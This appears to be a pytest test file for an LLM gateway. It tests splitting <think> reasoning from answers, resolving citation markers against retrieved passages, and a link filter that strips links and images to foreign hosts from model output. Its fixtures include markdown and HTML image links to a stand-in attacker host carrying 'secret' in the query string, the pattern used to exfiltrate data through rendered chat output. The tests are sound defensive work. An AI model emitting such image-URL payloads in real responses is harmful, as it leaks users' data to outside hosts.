"""What the gateway makes of a model's text: reasoning split from the answer (whole and in any
chunking), only cited passages as citations, and no links or images to foreign hosts."""

from __future__ import annotations

import pytest

from services.kb.answer import citations_for
from services.kb.classification import Classification
from services.kb.models import Chunk, Hit
from services.llm.citations import markers, resolve
from services.llm.output import HOLD_LIMIT, REMOVED, LinkFilter, LinkPolicy
from services.llm.reasoning import Delta, ThinkSplitter, UnterminatedReasoning

R1 = "<think>\nThe handbook says thirty.\n</think>\n\nEmployees get 30 days [1]."


def _split(text: str, size: int, opened: bool = False) -> tuple[str, str]:
    splitter = ThinkSplitter(opened=opened)
    out: list[Delta] = []
    for i in range(0, len(text), size):
        out += splitter.feed(text[i : i + size])
    out += splitter.finish()
    return (
        "".join(d.text for d in out if d.kind == "reasoning"),
        "".join(d.text for d in out if d.kind == "content"),
    )


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 1000])
def test_think_tags_split_across_chunks(size: int) -> None:
    reasoning, answer = _split(R1, size)
    assert reasoning == "\nThe handbook says thirty.\n" and answer == "Employees get 30 days [1]."


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_template_opened_think_and_plain_models(size: int) -> None:
    # DeepSeek-R1's newer template ends the prompt with "<think>\n": only the close arrives
    assert _split("Thirty.</think>It is 30 [1].", size, opened=True) == ("Thirty.", "It is 30 [1].")
    assert _split("<think>x</think>y", size, opened=True) == ("x", "y")
    # a model that does not reason: everything is the answer, a later tag is text
    assert _split("Plain answer with <think> in it.", size) == ("", "Plain answer with <think> in it.")


def test_unterminated_reasoning_is_an_error() -> None:
    for text, opened in (("<think>still thinking", False), ("thinking", True)):
        splitter = ThinkSplitter(opened=opened)
        splitter.feed(text)
        with pytest.raises(UnterminatedReasoning, match="still reasoning"):
            splitter.finish()


def _hits(*texts: str) -> list[Hit]:
    return [
        Hit(
            Chunk(f"c{i}", f"d{i}", "v", 0, t, Classification.INTERNAL, f"s{i}.md", 0, {"title": f"T{i}"}),
            0.9,
        )
        for i, t in enumerate(texts, 1)
    ]


def test_only_cited_passages_are_citations_with_quotes_and_unknown_markers() -> None:
    hits = _hits(
        "Parking costs five euros a day.", "Full-time staff get 30 vacation days per year.", "Other."
    )
    answer = 'Staff get "30 vacation days per year" [2]; see also [2, 7] and [1][9].'
    assert markers(answer) == [2, 7, 1, 9]
    found = resolve(answer, hits, citations_for(hits))
    assert [c.n for c in found.citations] == [2, 1]  # in the order first cited, numbers kept
    assert found.quotes == {2: "30 vacation days per year"}
    assert found.unknown == [7, 9]
    assert resolve("No markers at all.", hits, citations_for(hits)).citations == []


POLICY = LinkPolicy(["kb.example"])
DIRTY = (
    "See [1]. ![x](https://evil.example/?q=secret) [doc](https://kb.example/v1/d) "
    "[bad](http://evil.example/a) <https://evil.example/x> https://evil.example/y?d=1 "
    '<img src="https://evil.example/i.png"> ![ok](https://kb.example/i.png)\n'
    "[r]: https://evil.example/ref\n![a][r] done [2]. a < b! Wow!"
)


def test_links_and_images_to_foreign_hosts_are_removed() -> None:
    clean = POLICY.clean(DIRTY)
    assert "evil.example" not in clean and "secret" not in clean
    assert "[doc](https://kb.example/v1/d)" in clean and "![ok](https://kb.example/i.png)" in clean
    assert "[1]" in clean and "[2]" in clean and "a < b! Wow!" in clean and REMOVED in clean


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_link_filter_on_a_stream_matches_the_whole_text(size: int) -> None:
    f = LinkFilter(POLICY)
    out = "".join(f.feed(DIRTY[i : i + size]) for i in range(0, len(DIRTY), size)) + f.finish()
    assert out == POLICY.clean(DIRTY)


def test_an_image_url_never_leaves_before_it_is_complete() -> None:
    f = LinkFilter(POLICY)
    sent = f.feed("Answer ![x](https://evil") + f.feed(".example/?q=secret")
    assert "evil" not in sent and "![" not in sent
    sent += f.feed(") done") + f.finish()
    assert sent == "Answer x done"


def test_an_overlong_unfinished_construct_is_escaped_not_held_forever() -> None:
    f = LinkFilter(POLICY)
    sent = f.feed("![" + "a" * (HOLD_LIMIT + 10))
    assert sent.startswith("!\\[")  # released, and can no longer render as an image
    sent += f.feed("](https://evil.example/x)") + f.finish()
    assert "evil.example" not in sent
